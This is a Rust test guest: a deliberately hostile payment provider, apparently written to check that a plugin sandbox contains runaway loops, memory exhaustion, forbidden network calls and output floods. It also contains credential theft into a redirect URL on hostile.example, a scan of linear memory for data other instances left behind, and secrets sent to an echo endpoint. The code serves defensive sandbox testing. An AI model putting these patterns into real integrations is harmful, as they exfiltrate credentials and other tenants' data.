//! A payment provider that misbehaves on request, for the host's sandbox tests.
//!
//! `create-session` picks its behaviour from the transaction's `document-model`:
//! `loop` spins forever, `alloc` allocates without bound, `panic` traps, `forbidden-host`
//! calls a host that is not on its allowlist, `read-secret` tries to read a secret
//! credential, `print-flood` writes half a megabyte to stdout (32 times the host's cap), `leak-credential` returns the plain
//! `api_key` credential it can see (for the company-isolation test), `probe` reports what the
//! environment and arguments give it, `header` sends a GET to the contact's name with the
//! header named by the contact's email set to the contact's phone, `budget` sends ten
//! requests to the contact's name and then one to the contact's email and reports each
//! outcome. `echo` sends the secret `secret_key` by name (bearer, basic with `api_key`, raw) to
//! the contact's name, and fails with what came back, after checking that it does not hold the
//! plain `probe_value` credential (the test sets it to the secret's value, so the guest can
//! look for what it must never see). Anything else answers a normal redirect. Never shipped as a module. (Files and
//! sockets are probed by `test-guests/wasi-probe`, which the host refuses to install.)

wit_bindgen::generate!({
    world: "payment-provider",
    path: "../../../wit",
});

use exports::integrations::provider::payment::{Guest, ParsedWebhook, RefundResult};
use integrations::provider::credentials;
use integrations::provider::http::{self, Header, HeaderValue, HttpError, Method, Request};
use integrations::provider::log::{self, Level};
use integrations::provider::types::{
    Contact, ErrorKind, GatewayUpdate, IntegrationType, Money, ProviderError, Session, SessionAction, Transaction,
    Verification, WebhookRequest,
};

struct Hostile;

impl Guest for Hostile {
    fn validate_credentials() -> Result<(), ProviderError> {
        Ok(())
    }

    fn create_session(transaction: Transaction, _kind: IntegrationType) -> Result<Session, ProviderError> {
        let behaviour = transaction.document_model.clone().unwrap_or_default();
        let url = match behaviour.as_str() {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(std::hint::black_box(vec![1u8; 1 << 20]));
                }
            }
            "panic" => panic!("the hostile provider panics on purpose"),
            "forbidden-host" => {
                let target = transaction.contact.and_then(|c| c.name).unwrap_or_default();
                let request = Request { method: Method::Get, url: target, headers: vec![], body: None };
                match http::send(&request) {
                    Ok(response) => format!("https://hostile.example/reached/{}", response.status),
                    Err(e) => return Err(failure(format!("outbound request refused: {e:?}"))),
                }
            }
            "read-secret" => match credentials::get("secret_key") {
                Ok(Some(value)) => format!("https://hostile.example/stolen/{value}"),
                other => return Err(failure(format!("secret not readable: {other:?}"))),
            },
            "print-flood" => {
                let line = "x".repeat(1023);
                for _ in 0..512 {
                    println!("{line}");
                }
                format!("https://hostile.example/printed/{}", transaction.reference)
            }
            "probe" => {
                // What the sandbox lets through of the environment.
                let env = std::env::vars().count();
                let args = std::env::args().count();
                format!("https://hostile.example/probe?env={env}&args={args}")
            }
            "header" => {
                let contact =
                    transaction.contact.clone().unwrap_or(Contact { id: None, name: None, email: None, phone: None });
                let header = Header {
                    name: contact.email.unwrap_or_default(),
                    value: HeaderValue::Text(contact.phone.unwrap_or_default()),
                };
                let request = Request {
                    method: Method::Get,
                    url: contact.name.unwrap_or_default(),
                    headers: vec![header],
                    body: None,
                };
                match http::send(&request) {
                    Ok(response) => format!("https://hostile.example/reached/{}", response.status),
                    Err(e) => return Err(failure(format!("outbound request refused: {e:?}"))),
                }
            }
            "budget" => {
                let contact =
                    transaction.contact.clone().unwrap_or(Contact { id: None, name: None, email: None, phone: None });
                let send = |url: &str| {
                    let request = Request { method: Method::Get, url: url.to_string(), headers: vec![], body: None };
                    match http::send(&request) {
                        Ok(response) => format!("status-{}", response.status),
                        Err(HttpError::Denied(_)) => "denied".into(),
                        Err(HttpError::TooManyRequests) => "too-many-requests".into(),
                        Err(other) => format!("{other:?}"),
                    }
                };
                let denied = contact.name.unwrap_or_default();
                let mut outcomes: Vec<String> = (0..10).map(|_| send(&denied)).collect();
                outcomes.push(send(&contact.email.unwrap_or_default()));
                return Err(failure(format!("outcomes: {}", outcomes.join(","))));
            }
            "leave-behind" => {
                // Marks every page of 6 MiB (past what a freed slot keeps resident) and
                // says how many marks it can see itself, proving the scan finds them.
                let marker = disguised(&transaction.reference);
                let mut region = vec![0u8; 6 << 20];
                for page in region.chunks_mut(4096) {
                    page[..marker.len()].copy_from_slice(&marker);
                }
                let seen = marks_elsewhere(&marker);
                std::hint::black_box(&region);
                format!("https://hostile.example/left/{seen}")
            }
            "find-leftovers" => {
                // Memory grown again as an allocator trusts it (zeroed), then every byte read.
                let wanted = transaction.contact.and_then(|c| c.name).unwrap_or_default();
                let marker = disguised(&wanted);
                let fresh = vec![0u8; 6 << 20];
                let stray = fresh.iter().filter(|byte| **byte != 0).count();
                let found = marks_elsewhere(&marker);
                format!("https://hostile.example/found/{found}/nonzero/{stray}")
            }
            "echo" => return Err(failure(echo(&transaction))),
            "leak-credential" => match credentials::get("api_key") {
                Ok(Some(value)) => format!("https://hostile.example/seen/{value}"),
                other => return Err(failure(format!("api_key not readable: {other:?}"))),
            },
            _ => format!("https://hostile.example/pay/{}", transaction.reference),
        };
        Ok(Session {
            gateway_reference: Some(format!("h_{}", transaction.reference)),
            action: SessionAction::Redirect(url),
            provider_data: None,
        })
    }

    fn verify_webhook(_request: WebhookRequest) -> Result<Verification, ProviderError> {
        Ok(Verification::Rejected("the hostile provider accepts no webhooks".into()))
    }

    fn parse_webhook(_request: WebhookRequest) -> Result<ParsedWebhook, ProviderError> {
        Err(failure("no webhooks".into()))
    }

    fn process_return(_t: Transaction, _p: Vec<(String, String)>) -> Result<GatewayUpdate, ProviderError> {
        Err(failure("no returns".into()))
    }

    fn refund(_t: Transaction, _a: Money, _id: String) -> Result<RefundResult, ProviderError> {
        Err(failure("no refunds".into()))
    }

    fn sync(_t: Transaction) -> Result<GatewayUpdate, ProviderError> {
        Err(failure("no sync".into()))
    }

    fn client_config() -> Result<String, ProviderError> {
        Ok("{}".into())
    }
}

export!(Hostile);

/// `text` with every byte moved by one, so the mark a call leaves is never the text another
/// call is given to look for.
fn disguised(text: &str) -> Vec<u8> {
    text.bytes().map(|byte| byte.wrapping_add(1)).collect()
}

/// How often `marker` occurs in this instance's whole linear memory, outside `marker` itself.
fn marks_elsewhere(marker: &[u8]) -> usize {
    if marker.is_empty() {
        return 0;
    }
    let size = core::arch::wasm32::memory_size(0) * 65536;
    let own = marker.as_ptr() as usize;
    let byte_at = |address: usize| {
        // SAFETY: every address below the memory's size is readable in wasm; reading never
        // changes what the program sees.
        unsafe { std::ptr::read_volatile(address as *const u8) }
    };
    let mut found = 0;
    // Address 0 is skipped: Rust never places anything there.
    for start in 1..size.saturating_sub(marker.len()) {
        if start != own && byte_at(start) == marker[0] && (1..marker.len()).all(|i| byte_at(start + i) == marker[i]) {
            found += 1;
        }
    }
    found
}

fn failure(message: String) -> ProviderError {
    ProviderError { kind: ErrorKind::Internal, message, retryable: false }
}

/// What an echoing endpoint handed back for a request carrying the secret by name.
fn echo(transaction: &Transaction) -> String {
    let url = transaction.contact.as_ref().and_then(|c| c.name.clone()).unwrap_or_default();
    let header = |name: &str, value| Header { name: name.into(), value };
    let request = Request {
        method: Method::Post,
        url,
        headers: vec![
            header("authorization", HeaderValue::Bearer("secret_key".into())),
            header("x-basic", HeaderValue::Basic(("api_key".into(), "secret_key".into()))),
            header("x-raw", HeaderValue::Secret("secret_key".into())),
        ],
        body: Some(b"{}".to_vec()),
    };
    let response = match http::send(&request) {
        Ok(response) => response,
        Err(e) => return format!("echo failed: {e:?}"),
    };
    let headers: Vec<String> = response.headers.iter().map(|(name, value)| format!("{name}={value}")).collect();
    let seen = format!("headers: {}; body: {}", headers.join(" "), String::from_utf8_lossy(&response.body));
    log::log(Level::Info, &format!("echo answered {seen}"));
    match credentials::get("probe_value") {
        Ok(Some(secret)) if seen.contains(&secret) => "REFLECTED: the secret reached the sandbox".into(),
        Ok(Some(_)) => format!("echo: {seen}"),
        other => format!("probe_value not readable: {other:?}"),
    }
}
